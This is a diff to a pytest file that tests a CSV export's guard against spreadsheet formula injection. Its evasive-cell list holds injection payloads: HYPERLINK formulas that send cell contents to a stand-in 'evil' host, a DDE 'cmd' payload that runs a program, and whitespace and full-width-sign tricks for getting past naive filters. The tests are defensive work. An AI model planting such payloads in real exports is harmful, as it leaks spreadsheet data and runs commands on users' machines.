@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import tracemalloc
+import unicodedata
 from typing import Any
 
 import pytest
@@ -139,3 +140,45 @@ def test_export_streams_in_constant_memory(capp):
     big_size, big_peak = peak_for_export()
     assert big_size > 4.5 * small_size
     assert big_peak < 1.5 * small_peak + 256 * 1024, (small_peak, big_peak)
+
+
+#: Cells a spreadsheet would still run as a formula past a naive "starts with =" check.
+EVASIVE = [
+    " =HYPERLINK(\"http://evil/\"&A1)",        # leading space (spreadsheets trim it)
+    "\u00a0=1+1",                             # no-break space
+    "\u3000\u200b@SUM(A1)",                    # ideographic space, zero-width space
+    "\uff1dcmd|' /C calc'!A0",                 # full-width equals sign
+    "\uff0b1+1", "\uff0d2+3", "\uff20SUM(A1)",  # full-width plus, minus, at
+    "\ufe66HYPERLINK(\"http://evil/\")",       # small equals sign
+    "\n=1+1",
+]
+
+
+def _cells_split_on(body: str, delimiter: str) -> list[str]:
+    """The cells of a spreadsheet that splits on ``delimiter``: the file's own ``,`` with
+    RFC 4180 quotes; ``;`` or tab (a European or TSV import) as plainly as possible, quotes
+    ignored (spreadsheets differ in how they treat this file's quotes then)."""
+    if delimiter == ",":
+        return [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]
+    return [chunk.strip(' "\u00a0\u3000\u200b\r\n') for line in body.split("\r\n") for chunk in line.split(delimiter)]
+
+
+def test_formula_guard_sees_through_whitespace_full_width_signs_and_separators(capp):
+    for subject in [*EVASIVE, "x;=HYPERLINK(\"http://evil/\")", "y\t=1+1", "z; \"\uff0b1", "Price - 20% off",
+                    "ok@example.com", "a, @b"]:
+        _msg(capp, subject, campaign_id="camp;=1+1")
+    resp = capp.test_client().get(API, headers=hdrs())
+    assert resp.status_code == 200 and resp.is_streamed
+    body = resp.get_data(as_text=True)
+    rows = _rows(resp)
+    subjects = {r["subject"] for r in rows}
+    assert {"'" + s for s in EVASIVE} <= subjects
+    assert {"x;'=HYPERLINK(\"http://evil/\")", "y\t'=1+1", "z; \"'\uff0b1", "Price - 20% off", "ok@example.com",
+            "a, @b"} <= subjects
+    assert {r["campaignId"] for r in rows} == {"camp;'=1+1"}
+    # whatever separator the spreadsheet splits on, no cell it sees starts (after trimming)
+    # with a formula sign
+    for delimiter in (",", ";", "\t"):
+        for cell in _cells_split_on(body, delimiter):
+            trimmed = cell.lstrip(" \u00a0\u3000\u200b\n")
+            assert not trimmed[:1] or unicodedata.normalize("NFKC", trimmed[0]) not in "=+-@", (delimiter, cell)
